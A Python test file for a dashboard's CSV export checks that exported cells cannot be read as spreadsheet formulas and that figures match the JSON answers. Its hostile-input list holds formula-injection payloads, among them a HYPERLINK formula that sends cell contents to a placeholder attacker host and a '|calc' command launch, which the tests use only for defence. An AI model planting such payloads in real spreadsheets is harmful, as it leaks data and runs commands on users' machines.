"""CSV holds the figures of the JSON answers, and no cell that a spreadsheet would take for a formula."""

from __future__ import annotations

import csv
import io

import pytest

from stream.dashboard.answers import (
    Changes,
    Clusters,
    Figures,
    HostFigures,
    Hosts,
    Lag,
    LagSeries,
    RangeAnswer,
    SeenVerdict,
    Verdicts,
)
from stream.dashboard.web import csv_export
from stream.messages.verdict import VERDICTS, NearestPage, PageRef
from tests.browser.canned import NOON, PLAIN, canned, verdict

RANGE = RangeAnswer(NOON, NOON + 20, 10)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "|calc",
        "%0A=1",
    ],
)
def test_no_cell_is_a_formula(hostile: str) -> None:
    """The apostrophe makes it text; the rest is as it was."""
    hosts = Hosts(RANGE, [HostFigures(hostile, 3, {"duplicate": 2})], 1, None, complete=True)
    (_, row) = read(csv_export.hosts(hosts))
    assert row == [f"'{hostile}", "3", "2"]
    like = verdict(PLAIN, 1, url=hostile, duplicate_of=PageRef(hostile, "a.1.1"))
    (_, row) = read(csv_export.verdicts(Verdicts([SeenVerdict(1, like)], None)))
    assert row[2:4] == [f"'{hostile}"] * 2
    near = verdict(PLAIN, 0, "unique", nearest=NearestPage(hostile, "a.1.1", 0.71))
    (_, row) = read(csv_export.verdicts(Verdicts([SeenVerdict(1, near)], None)))
    assert row[-2:] == [f"'{hostile}", "0.71"]


@pytest.mark.parametrize("url", ['http://a.example/",\r\n=1', "http://a.example/;=1", "\ud800\0x", ""])
def test_a_cell_stays_one_cell(url: str) -> None:
    text = csv_export.verdicts(Verdicts([SeenVerdict(1, verdict(PLAIN, 1, url=url))], None))
    (header, row) = read(text.encode().decode())
    assert len(row) == len(header) == 11
    assert row[2] == url.replace("\ud800", "?").replace("\0", "\ufffd")


def test_figures_are_those_of_the_answer() -> None:
    figures = canned(PLAIN).answers["figures"]
    assert isinstance(figures, Figures)
    parts = {name: read(write(figures)) for name, write in csv_export.FIGURES.items()}
    header, *rows = parts["series"]
    assert header == ["time", *VERDICTS]
    assert rows[0][0] == "2026-01-02T12:00:00Z"
    columns = list(zip(*rows, strict=True))[1:]
    assert [sum(map(int, column)) for column in columns] == list(figures.verdicts.values())
    header, *rows = parts["similarities"]
    assert header == ["similarity", "duplicate", "recrawl"]
    assert rows[99][0] == "0.99"
    assert [int(row[1]) for row in rows] == figures.similarities["duplicate"]
    assert len(parts["distances"]) == 65
    assert parts["reasons"][1] == ["unsupported_content", "63"]


def test_lists_and_lag_have_a_row_each() -> None:
    found = canned(PLAIN).answers
    clusters, changes = found["clusters"], found["changes"]
    assert isinstance(clusters, Clusters)
    assert isinstance(changes, Changes)
    anchor = PLAIN.urls[1]
    assert [row[-2:] for row in read(csv_export.clusters(clusters))] == [
        ["kept", "because"], [anchor, "joined"], [anchor, ""], ["", "left"],
    ]  # fmt: skip
    assert read(csv_export.clusters(clusters))[2][:4] == ["9f576ade.3.1", anchor, "15", "true"]
    assert read(csv_export.changes(changes))[1] == [
        "2026-01-02T12:00:40Z",
        "judge",
        "start",
        "all checks pass",
    ]
    judge = LagSeries("judge", None, [None, 0.0], [None, 0])
    partition = LagSeries("worker", 7, [None, 1.5], [3, 4])
    lag = Lag(RANGE, NOON, [NOON, NOON + 10.0], [judge], [partition], 1)
    assert read(csv_export.lag(lag))[1:] == [
        ["2026-01-02T12:00:10Z", "judge", "", "0.0", "0"],
        ["2026-01-02T12:00:00Z", "worker", "7", "", "3"],
        ["2026-01-02T12:00:10Z", "worker", "7", "1.5", "4"],
    ]
